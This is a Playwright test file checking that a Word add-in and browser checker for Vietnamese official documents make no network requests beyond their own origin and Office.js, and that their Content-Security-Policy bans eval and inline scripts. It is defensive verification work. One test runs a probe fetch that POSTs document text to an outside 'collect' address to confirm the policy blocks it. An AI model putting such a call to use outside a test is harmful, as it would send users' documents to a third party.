/**
 * Nothing leaves the machine: during a full session in the built add-in (choose the request,
 * insert, check, select a finding) and in the browser checker (check.html) every request the
 * page makes goes to its own origin (or, for the add-in only, to Microsoft's Office.js CDN), and
 * the pages' Content-Security-Policy forbids anything else.
 */
import { readdirSync, readFileSync } from "fs";
import { join } from "path";
import type { Browser, Page } from "playwright-core";
import { launchChromium, OFFICE_JS_CDN, officeStub } from "../support/browser";
import { serveStatic, type StaticServer } from "../support/static-server";

const root = join(__dirname, "..", "..");
const dist = join(root, "dist");
const seeds = join(root, "test", "fixtures", "seeds");

let browser: Browser;
let server: StaticServer;
let origin: string;

beforeAll(async () => {
  server = await serveStatic(dist, "/vanban/", {
    "/vanban/fixtures/000.txt": join(seeds, "000_b28154c4db1fc991.txt"),
    "/vanban/fixtures/002.txt": join(seeds, "002_2b77b3d6864b3803.txt"),
  });
  origin = new URL(server.url).origin;
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

/** Records every request and every CSP violation of a page; answers the Office.js CDN with a stub. */
async function recordedPage(): Promise<{ page: Page; requests: string[]; violations: string[]; close(): Promise<void> }> {
  const context = await browser.newContext({ viewport: { width: 1100, height: 900 } });
  const requests: string[] = [];
  await context.route(OFFICE_JS_CDN, (route) => route.fulfill({ contentType: "text/javascript", body: officeStub() }));
  const page = await context.newPage();
  page.on("request", (request) => requests.push(request.url()));
  const violations: string[] = [];
  await page.exposeFunction("__reportViolation", (text: string) => violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      (window as unknown as { __reportViolation(text: string): void }).__reportViolation(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  return { page, requests, violations, close: () => context.close() };
}

function outside(requests: readonly string[]): string[] {
  return requests.filter((url) => !url.startsWith(`${origin}/`) && url !== OFFICE_JS_CDN && !url.startsWith("data:"));
}

describe("network", () => {
  it("a full session in the preview requests nothing but the add-in's own files", async () => {
    const { page, requests, violations, close } = await recordedPage();
    await page.goto(`${server.url}preview.html?doc=fixtures/000.txt&request=fixtures/002.txt`);
    await page.locator('[data-field="number"]').waitFor();
    await expect(page.locator('[data-field="number"]').inputValue()).resolves.toBe("4874/BNV-CCVC");

    await page.getByTestId("tab-settings").click();
    await page.getByTestId("example-state").click();
    await page.getByTestId("save-profile").click();
    await page.getByTestId("tab-compose").click();
    // Dated after the request's deadline, so the check reports something with a place to select.
    await page.getByTestId("compose-date").fill("15/9/2023");
    await page.getByTestId("insert-header").click();
    await page.getByText("Đã chèn phần đầu ở đầu văn bản.").waitFor();
    await page.getByTestId("insert-closing").click();
    // Reply 000 already ends with Nơi nhận and a signature: a second one is asked about first.
    await page.getByTestId("confirm-closing").click();
    await page.getByText("Đã chèn nơi nhận và chữ ký ở cuối văn bản.").waitFor();

    await page.getByTestId("tab-check").click();
    await page.getByTestId("run-check").click();
    await page.getByTestId("check-summary").waitFor();
    const finding = page.locator('button[data-testid="finding"]').first();
    await finding.click();
    await page.locator('[data-testid="document"] [data-selected="true"]').first().waitFor();

    expect(requests.length).toBeGreaterThan(3);
    expect(outside(requests)).toEqual([]);
    expect(violations).toEqual([]);
    await close();
  });

  it("the Word task pane loads only its own files and Office.js", async () => {
    const { page, requests, violations, close } = await recordedPage();
    await page.goto(`${server.url}taskpane.html`);
    await page.getByRole("tab", { name: "Kiểm tra" }).waitFor();
    await page.getByRole("tab", { name: "Kiểm tra" }).click();
    expect(requests).toContain(OFFICE_JS_CDN);
    expect(outside(requests)).toEqual([]);
    expect(violations).toEqual([]);
    await close();
  });

  it("the browser checker checks a request and a reply with its own files only, and never loads Office.js", async () => {
    const { page, requests, violations, close } = await recordedPage();
    await page.goto(`${server.url}check.html`);
    // Nothing but the page's own files, whatever it loads first.
    await page.locator('[data-testid="check-replies"]:enabled').waitFor();
    await page.getByTestId("check-request").setInputFiles(join(seeds, "002_2b77b3d6864b3803.txt"));
    await page.getByTestId("request-read").waitFor();
    await page.getByTestId("check-replies").setInputFiles(join(seeds, "000_b28154c4db1fc991.txt"));
    await page.getByTestId("review-row").waitFor();
    await page.locator('[data-testid="finding"]').first().click();
    await Promise.all([page.waitForEvent("download"), page.getByTestId("download-html").click()]);
    // The spreadsheet writer is fetched now, from the page's own server.
    await Promise.all([page.waitForEvent("download"), page.getByTestId("download-xlsx").click()]);

    expect(requests.length).toBeGreaterThan(1);
    expect(requests).not.toContain(OFFICE_JS_CDN);
    expect(outside(requests)).toEqual([]);
    expect(violations).toEqual([]);
    await close();
  });

  it.each(["taskpane.html", "preview.html", "check.html"])("the Content-Security-Policy of %s blocks any other address", async (file) => {
    const { page, violations, close } = await recordedPage();
    await page.goto(`${server.url}${file}`);
    if (file === "check.html") await page.locator('[data-testid="check-replies"]:enabled').waitFor();
    else await page.getByRole("tab", { name: "Kiểm tra" }).waitFor();
    const outcome = await page.evaluate(async () => {
      try {
        await fetch("https://example.org/collect", { method: "POST", body: "văn bản" });
        return "sent";
      } catch {
        return "blocked";
      }
    });
    expect(outcome).toBe("blocked");
    for (let i = 0; i < 50 && violations.length === 0; i++) await page.waitForTimeout(20);
    expect(violations.join("\n")).toMatch(/connect-src https:\/\/example\.org/);
    await close();
  });
});

describe("built pages", () => {
  const pages = ["taskpane.html", "preview.html", "commands.html", "check.html"];

  it("check.html loads no Office.js, from the CDN or a copy", () => {
    const html = readFileSync(join(dist, "check.html"), "utf8");
    expect(html).not.toMatch(/office(?:\.debug)?\.js|appsforoffice/i);
  });

  it.each(pages)("%s carries a Content-Security-Policy without eval or inline scripts", (file) => {
    const html = readFileSync(join(dist, file), "utf8");
    const policy = /http-equiv="?Content-Security-Policy"?\s+content="([^"]+)"/.exec(html)?.[1] ?? "";
    expect(policy).toMatch(/default-src 'self'/);
    const scriptSrc = /script-src ([^;]+)/.exec(policy)?.[1] ?? "";
    expect(scriptSrc).not.toMatch(/unsafe-eval|unsafe-inline|\*/);
    expect(policy).toMatch(/object-src 'none'/);
    expect(html).not.toMatch(/<script>(?!<\/script>)/);
  });

  it("ships no eval in any bundle", () => {
    const bundles = readdirSync(dist).filter((f) => f.endsWith(".js"));
    expect(bundles.length).toBeGreaterThan(2);
    for (const bundle of bundles) {
      expect(readFileSync(join(dist, bundle), "utf8")).not.toMatch(/\beval\(/);
    }
  });
});
